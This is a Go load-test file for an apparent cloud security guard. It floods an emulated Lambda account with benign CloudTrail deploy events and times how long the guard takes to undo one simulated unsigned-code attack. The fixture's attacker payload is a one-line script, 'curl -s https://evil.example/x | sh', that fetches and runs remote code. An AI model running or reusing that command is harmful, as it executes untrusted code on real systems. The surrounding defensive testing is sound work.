package loadtest

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	mrand "math/rand"
	"sort"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/awsproto"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
	"github.com/selfguard/selfguard/infra/eventbus"
	"github.com/selfguard/selfguard/infra/testbed"
	"github.com/selfguard/selfguard/shared/cloudtrail"
)

// AttackedFunction is the flood world's one function whose code signing
// config only warns, so the attacker's unsigned code lands on it.
const AttackedFunction = "app-attacked"

// FloodOptions shape a flood: benign routed events arriving faster than the
// guard can judge them, with one attack among them.
type FloodOptions struct {
	// Functions the benign events are about (default 200).
	Functions int
	// Events is how many benign events arrive (default 1,000), evenly over Over (default 1 minute).
	Events int
	Over   time.Duration
	// Seed draws when, within Over, the attack comes; 0 draws a random seed.
	Seed int64
	// Cap bounds the wait for the guard's action on the attack (default 20 minutes).
	Cap time.Duration
	// Parameters override template parameters (GuardConcurrency, LambdaRate...).
	Parameters map[string]string
	// Progress receives progress lines; GuardLogs the guard's raw output.
	Progress, GuardLogs io.Writer
}

func (o *FloodOptions) defaults() {
	if o.Functions <= 0 {
		o.Functions = 200
	}
	if o.Events <= 0 {
		o.Events = 1000
	}
	if o.Over <= 0 {
		o.Over = time.Minute
	}
	if o.Seed == 0 {
		o.Seed = time.Now().UnixNano()
	}
	if o.Cap <= 0 {
		o.Cap = 20 * time.Minute
	}
	if o.Progress == nil {
		o.Progress = io.Discard
	}
}

// FloodReport is one flood run.
type FloodReport struct {
	Seed int64 `json:"seed"`
	// AttackAt is when, after the first benign event, the attacker's change
	// was made; EventToAction from that change to the guard's first write
	// on the attacked function (Acted false: none within Cap).
	AttackAt      time.Duration `json:"attackAt"`
	EventToAction time.Duration `json:"eventToAction"`
	Acted         bool          `json:"acted"`
	// Ahead is how many deliveries to the guard ended between the attack
	// and the action: the queue the attack waited behind.
	Ahead int `json:"ahead"`
	// Handled is how many deliveries ended by the time the run stopped,
	// and Wall how long the run took from the first benign event.
	Handled int           `json:"handled"`
	Wall    time.Duration `json:"wall"`
	// GuardCalls counts the guard's Lambda calls per quota bucket.
	GuardCalls map[string]int `json:"guardCalls"`
}

// FloodWorld has n signed functions released through prod to version 1,
// each with a signed version 2, under the enforcing code signing config,
// and AttackedFunction, alike but under the warn-only one.
func FloodWorld(n int) *emulator.World {
	w := testbed.DemoWorld()
	delay := 50
	w.Lambda.UpdateDelayMs = &delay
	signed := func(body string) lambdaemu.CodeWorld {
		return lambdaemu.CodeWorld{Files: map[string]string{"bootstrap": body}, SignedBy: testbed.ReleaseProfile}
	}
	fn := func(name, csc string) lambdaemu.FunctionWorld {
		return lambdaemu.FunctionWorld{
			Name: name, CodeWorld: signed("release 2"), CodeSigningConfig: csc,
			Versions: []lambdaemu.VersionWorld{{CodeWorld: signed("release 1")}, {CodeWorld: signed("release 2")}},
			Aliases:  []lambdaemu.AliasWorld{{Name: "prod", FunctionVersion: "1"}},
		}
	}
	w.Lambda.Functions = nil
	for i := 0; i < n; i++ {
		w.Lambda.Functions = append(w.Lambda.Functions, fn(FunctionName(i), testbed.EnforceCSCID))
	}
	w.Lambda.Functions = append(w.Lambda.Functions, fn(AttackedFunction, testbed.WarnCSCID))
	return w
}

// RunFlood brings up the local account, publishes the benign events to the
// bus at an even rate, makes the attack at a random moment among them and
// measures how long the guard takes to act on it.
func RunFlood(ctx context.Context, o FloodOptions) (*FloodReport, error) {
	o.defaults()
	rep := &FloodReport{Seed: o.Seed}
	params := testbed.GuardParameters("enforce")
	// No CSC to attach: the attacker's code lands and the guard restores it.
	params["CodeSigningConfigArn"] = ""
	for k, v := range o.Parameters {
		params[k] = v
	}
	bed, err := testbed.Start(ctx, testbed.Options{
		World: FloodWorld(o.Functions), Parameters: params, Functions: []string{GuardFunction}, LogWriter: &LogSink{Echo: o.GuardLogs},
	})
	if err != nil {
		return nil, err
	}
	defer bed.Close()
	bed.Emulator.Env.Trail.RecordReads = true
	guardRole := bed.Roles[GuardFunction]

	runCtx, stop := context.WithCancel(ctx)
	defer stop()
	// The trail straight to the bus (no polling delay), and a second
	// subscription that notes when the guard first writes to the attacked function.
	feed, unfeed := bed.Emulator.Env.Trail.Subscribe(4096)
	defer unfeed()
	go bed.Bus.FeedTrail(runCtx, feed)
	watch, unwatch := bed.Emulator.Env.Trail.Subscribe(4096)
	defer unwatch()
	acted := make(chan time.Time, 1)
	go watchAction(runCtx, watch, guardRole, acted)

	rng := mrand.New(mrand.NewSource(o.Seed))
	rep.AttackAt = time.Duration(rng.Int63n(int64(o.Over)))
	mallory := bed.Lambda(emulator.ActorAttacker)
	unsigned := lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"})

	start := time.Now()
	var attackDone time.Time
	var attackErr error
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		select {
		case <-runCtx.Done():
			return
		case <-time.After(rep.AttackAt):
		}
		_, attackErr = mallory.UpdateFunctionCode(runCtx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(AttackedFunction), ZipFile: unsigned})
		attackDone = time.Now()
	}()
	fmt.Fprintf(o.Progress, "flood: %d benign events over %s, the attack at %s\n", o.Events, o.Over, rep.AttackAt.Round(time.Millisecond))
	gap := o.Over / time.Duration(o.Events)
	for i := 0; i < o.Events; i++ {
		if d := time.Until(start.Add(time.Duration(i) * gap)); d > 0 {
			time.Sleep(d)
		}
		if _, err := bed.Bus.Publish(runCtx, benignEvent(i/o.Functions, FunctionName(i%o.Functions), time.Now())); err != nil {
			return nil, fmt.Errorf("publish benign event %d: %w", i, err)
		}
	}
	wg.Wait()
	if attackErr != nil {
		return nil, fmt.Errorf("attack: %w", attackErr)
	}
	select {
	case at := <-acted:
		rep.Acted, rep.EventToAction = true, at.Sub(attackDone)
	case <-time.After(o.Cap):
	case <-ctx.Done():
		return nil, ctx.Err()
	}
	rep.Wall = time.Since(start)
	for _, d := range bed.Bus.Deliveries() {
		if d.Target != GuardFunction || d.Result == eventbus.ResultCancelled {
			continue
		}
		rep.Handled++
		if end := d.At.Add(d.Took); end.After(attackDone) && (!rep.Acted || end.Before(attackDone.Add(rep.EventToAction))) {
			rep.Ahead++
		}
	}
	calls, err := ParseCalls(bed.Emulator.Env.Trail.Since(0))
	if err != nil {
		return nil, err
	}
	rep.GuardCalls = map[string]int{}
	for _, c := range calls {
		if c.Issuer == guardRole {
			rep.GuardCalls[c.Bucket()]++
		}
	}
	fmt.Fprintf(o.Progress, "flood: event to action %s (acted %v) with %d deliveries ended meanwhile; %d handled in %s\n",
		rep.EventToAction.Round(time.Millisecond), rep.Acted, rep.Ahead, rep.Handled, rep.Wall.Round(time.Second))
	return rep, nil
}

// watchAction sends the time of the guard's first successful write to the
// attacked function.
func watchAction(ctx context.Context, ch <-chan awsproto.Event, guardRole string, acted chan<- time.Time) {
	for {
		select {
		case <-ctx.Done():
			return
		case ev, ok := <-ch:
			if !ok {
				return
			}
			_, rec, err := cloudtrail.ParseEnvelope(ev.Event)
			if err != nil || rec.Failed() || rec.IsReadOnly() || rec.UserIdentity.IssuerARN() != guardRole {
				continue
			}
			var req struct {
				FunctionName string `json:"functionName"`
			}
			if rec.Request(&req) == nil && req.FunctionName == AttackedFunction {
				acted <- time.Now()
				return
			}
		}
	}
}

// benignKinds are a redeploy of signed code as a pipeline makes it, one
// change event each: new code, a description, a published version, the
// alias moved (to a trusted version), the memory size.
var benignKinds = []struct{ name, request string }{
	{"UpdateFunctionCode20150331v2", `{"functionName":"%s","publish":false}`},
	{"UpdateFunctionConfiguration20150331v2", `{"functionName":"%s","description":"release 2"}`},
	{"PublishVersion20150331", `{"functionName":"%s","description":"release 2"}`},
	{"UpdateAlias20150331", `{"functionName":"%s","name":"prod","functionVersion":"1"}`},
	{"UpdateFunctionConfiguration20150331v2", `{"functionName":"%s","memorySize":256}`},
}

// benignEvent is a benign event of kind k (benignKinds) about fn, as
// EventBridge delivers a CloudTrail record of the pipeline's role: the
// state it points at is trusted, so the guard has nothing to do but find
// that out. Each function gets the kinds in turn, one pass over all the
// functions after another, as a pipeline deploys in waves.
func benignEvent(k int, fn string, at time.Time) []byte {
	kind := benignKinds[k%len(benignKinds)]
	id := newID()
	detail := map[string]any{
		"eventVersion": "1.08", "eventTime": at.UTC().Format(time.RFC3339), "eventSource": cloudtrail.SourceLambda,
		"eventName": kind.name, "awsRegion": testbed.Region, "sourceIPAddress": "192.0.2.20", "userAgent": "deploy-pipeline",
		"requestParameters": json.RawMessage(fmt.Sprintf(kind.request, fn)), "responseElements": nil,
		"requestID": newID(), "eventID": id, "readOnly": false, "eventType": "AwsApiCall", "managementEvent": true,
		"recipientAccountId": testbed.Account, "eventCategory": "Management",
		"userIdentity": map[string]any{
			"type": "AssumedRole", "principalId": "AROALOCALCI000000001:build",
			"arn": "arn:aws:sts::" + testbed.Account + ":assumed-role/ci-deployer/build", "accountId": testbed.Account,
			"sessionContext": map[string]any{"sessionIssuer": map[string]any{
				"type": "Role", "principalId": "AROALOCALCI000000001", "arn": "arn:aws:iam::" + testbed.Account + ":role/ci-deployer",
				"accountId": testbed.Account, "userName": "ci-deployer",
			}},
		},
	}
	ev := map[string]any{
		"version": "0", "id": newID(), "detail-type": cloudtrail.DetailType, "source": "aws.lambda",
		"account": testbed.Account, "time": at.UTC().Format(time.RFC3339), "region": testbed.Region,
		"resources": []string{}, "detail": detail,
	}
	raw, _ := json.Marshal(ev)
	return raw
}

func newID() string {
	var b [16]byte
	_, _ = rand.Read(b[:])
	return fmt.Sprintf("%x-%x-%x-%x-%x", b[0:4], b[4:6], b[6:8], b[8:10], b[10:])
}

// FloodSummary is the event-to-action times of several runs: p50 and p99
// (with few runs, p99 is the slowest), and whether every run acted.
type FloodSummary struct {
	Runs     int           `json:"runs"`
	P50, P99 time.Duration `json:"-"`
	AllActed bool          `json:"allActed"`
}

// Summarize takes the percentiles over runs; a run that did not act counts
// as its cap.
func Summarize(reps []*FloodReport, capped time.Duration) FloodSummary {
	s := FloodSummary{Runs: len(reps), AllActed: true}
	var ds []time.Duration
	for _, r := range reps {
		d := r.EventToAction
		if !r.Acted {
			d, s.AllActed = capped, false
		}
		ds = append(ds, d)
	}
	if len(ds) == 0 {
		return s
	}
	sort.Slice(ds, func(i, j int) bool { return ds[i] < ds[j] })
	s.P50 = ds[(len(ds)-1)/2]
	s.P99 = ds[min(len(ds)-1, (len(ds)*99+99)/100-1)]
	return s
}
